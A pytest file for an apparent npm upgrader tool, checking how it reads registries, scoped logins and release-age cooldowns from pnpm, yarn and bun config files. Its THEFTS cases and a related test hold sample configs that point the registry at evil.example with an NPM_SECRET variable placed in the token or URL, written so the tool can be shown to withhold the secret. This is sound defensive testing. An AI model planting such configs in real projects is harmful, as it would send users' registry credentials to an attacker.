"""pnpm's, yarn's and bun's own settings: registries and logins as they read them, and nothing to strangers."""

import base64
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest

from tests.ecosystems.npm.support import write
from upgrader.ecosystems import npm
from upgrader.ecosystems.base import Registry
from upgrader.model import Project

DEFAULT = "https://default.example/"


def locate(
    tmp_path: Path,
    tool: str,
    files: Mapping[str, str],
    env: Mapping[str, str] | None = None,
    lock: str = "9.0",
) -> Registry:
    write(tmp_path, {"repo/package.json": "{}", **files})

    def ask(argv: Sequence[str], *, cwd: Path, env: Mapping[str, str]) -> str | None:
        return DEFAULT

    project = Project(
        ecosystem="npm",
        folder=".",
        manifest="package.json",
        manifests=("package.json",),
        lockfile=None,
        tool=tool,
        lock_format=lock,
    )
    variables = {"HOME": str(tmp_path / "home"), "npm_config_prefix": str(tmp_path / "prefix"), **(env or {})}
    return npm.locate_registry(tmp_path / "repo", project, variables, ask)


OTHERS = [
    pytest.param("npm", "pnpm-workspace.yaml", "registries:\n  default: https://p.example/\n", id="npm"),
    pytest.param("npm", ".yarnrc.yml", "npmRegistryServer: https://y.example\n", id="npm, yarn's file"),
    pytest.param("pnpm", ".yarnrc.yml", "npmRegistryServer: https://y.example\n", id="pnpm"),
    pytest.param("yarn", ".npmrc", "registry=https://n.example/\n", id="yarn berry"),
    pytest.param("bun", ".yarnrc.yml", "npmRegistryServer: https://y.example\n", id="bun"),
]


@pytest.mark.parametrize(("tool", "file", "text"), OTHERS)
def test_another_tools_file_says_nothing(tmp_path: Path, tool: str, file: str, text: str) -> None:
    found = locate(tmp_path, tool, {f"repo/{file}": text})
    assert (found.url, found.scopes, found.cooldown_days, found.problem) == (
        DEFAULT.rstrip("/"),
        {},
        None,
        "",
    )


def test_yarn_1_reads_npmrc(tmp_path: Path) -> None:
    files = {
        "repo/.npmrc": "registry=https://n.example/\n",
        "repo/.yarnrc.yml": "npmRegistryServer: https://y.example\n",
    }
    assert locate(tmp_path, "yarn", files, lock="1").url == "https://n.example"


def test_pnpm(tmp_path: Path) -> None:
    text = (
        "registries:\n  default: https://p.example/npm/\n  '@corp': https://corp.example/\n"
        "minimumReleaseAge: 2880\nminimumReleaseAgeExclude:\n  - '@corp/*'\n  - left-pad\n"
    )
    auth = "//corp.example/:_authToken=${CORP}\n"
    files = {"repo/pnpm-workspace.yaml": text, "home/.config/pnpm/auth.ini": auth}
    found = locate(tmp_path, "pnpm", files, {"CORP": "s3cret"})
    assert (found.url, found.scopes) == ("https://p.example/npm", {"@corp": "https://corp.example"})
    assert (found.cooldown_days, found.cooldown_except) == (2.0, ("@corp/*", "left-pad"))
    assert found.credentials == {"https://corp.example": "Bearer s3cret"}


def test_yarn(tmp_path: Path) -> None:
    text = (
        'npmRegistryServer: "https://y.example/npm"\n'
        "npmScopes:\n  corp:\n    npmRegistryServer: https://corp.example\n    npmAuthToken: ${CORP:-none}\n"
        "npmMinimalAgeGate: 3d\nnpmPreapprovedPackages: ['@corp/*']\n"
    )
    home = (
        'npmRegistries:\n  "//y.example/npm":\n    npmAuthIdent: "me:pw"\n'
        '  "//corp.example":\n    npmAuthToken: ours\n'
    )
    files = {"repo/.yarnrc.yml": text, "home/.yarnrc.yml": home}
    found = locate(tmp_path, "yarn", files)
    assert (found.url, found.scopes) == ("https://y.example/npm", {"@corp": "https://corp.example"})
    assert (found.cooldown_days, found.cooldown_except) == (3.0, ("@corp/*",))
    me = "Basic " + base64.b64encode(b"me:pw").decode()
    assert found.credentials["https://y.example/npm"] == me
    assert found.credentials["https://corp.example"] == "Bearer none"


def test_yarns_environment_goes_before_its_files(tmp_path: Path) -> None:
    files = {"repo/.yarnrc.yml": "npmRegistryServer: https://y.example\n"}
    env = {"YARN_NPM_REGISTRY_SERVER": "https://env.example", "YARN_NPM_AUTH_TOKEN": "t"}
    found = locate(tmp_path, "yarn", files, env)
    assert (found.url, found.credentials) == ("https://env.example", {"https://env.example": "Bearer t"})


def test_bun(tmp_path: Path) -> None:
    text = (
        "[install]\nminimumReleaseAge = 172800\nminimumReleaseAgeExcludes = ['a']\n"
        "registry = { url = 'https://b.example/npm', token = 'open' }\n"
        "[install.scopes]\ncorp = { url = 'https://corp.example/', username = 'u', password = 'p' }\n"
        "'@free' = 'https://free.example/'\n"
    )
    found = locate(tmp_path, "bun", {"repo/bunfig.toml": text})
    assert found.url == "https://b.example/npm"
    assert found.scopes == {"@corp": "https://corp.example", "@free": "https://free.example"}
    assert found.credentials["https://b.example/npm"] == "Bearer open"
    assert found.credentials["https://corp.example"].startswith("Basic ")
    assert (found.cooldown_days, found.cooldown_except) == (2.0, ("a",))


THEFTS = [
    pytest.param(
        "yarn",
        ".yarnrc.yml",
        "npmRegistryServer: https://evil.example\nnpmAuthToken: ${NPM_SECRET}\n",
        id="yarn, a token",
    ),
    pytest.param(
        "yarn",
        ".yarnrc.yml",
        "npmRegistryServer: https://evil.example/${NPM_SECRET}\n",
        id="yarn, an address",
    ),
    pytest.param(
        "yarn",
        ".yarnrc.yml",
        "npmRegistryServer: https://evil.example/${NPM_SECRET:-x}\n",
        id="yarn, otherwise",
    ),
    pytest.param(
        "bun",
        "bunfig.toml",
        "[install]\nregistry = {url = 'https://evil.example', token = '$NPM_SECRET'}\n",
        id="bun",
    ),
    pytest.param(
        "pnpm",
        "pnpm-workspace.yaml",
        "registries:\n  default: https://evil.example/${NPM_SECRET}/\n",
        id="pnpm",
    ),
]


@pytest.mark.parametrize(("tool", "file", "text"), THEFTS)
def test_a_project_gets_no_variable_to_its_own_server(
    tmp_path: Path, tool: str, file: str, text: str
) -> None:
    found = locate(tmp_path, tool, {f"repo/{file}": text}, {"NPM_SECRET": "s3cret"})
    assert "s3cret" not in repr(found)
    assert not found.credentials
    assert found.problem or found.url == "https://evil.example"


def test_a_users_token_does_not_follow_the_projects_server(tmp_path: Path) -> None:
    files = {
        "repo/.yarnrc.yml": "npmRegistryServer: https://evil.example\n",
        "home/.yarnrc.yml": "npmAuthToken: s3cret\n",
    }
    assert "s3cret" not in repr(locate(tmp_path, "yarn", files))


@pytest.mark.parametrize(
    "text", ["a: [", "registries: [x]\n", "registries:\n  default: {a: b}\n", "- x\n", ""]
)
def test_odd_files_raise_nothing(tmp_path: Path, text: str) -> None:
    found = locate(tmp_path, "pnpm", {"repo/pnpm-workspace.yaml": text})
    assert found.problem or found.url == DEFAULT.rstrip("/")


AGES = [("1440", 1.0), ("3d", 3.0), ("1w", 7.0), ("12h", 0.5), ("0", None), ("soon", None)]


@pytest.mark.parametrize(("text", "days"), AGES)
def test_minimum_ages(tmp_path: Path, text: str, days: float | None) -> None:
    found = locate(tmp_path, "yarn", {"repo/.yarnrc.yml": f"npmMinimalAgeGate: {text}\n"})
    assert found.cooldown_days == days
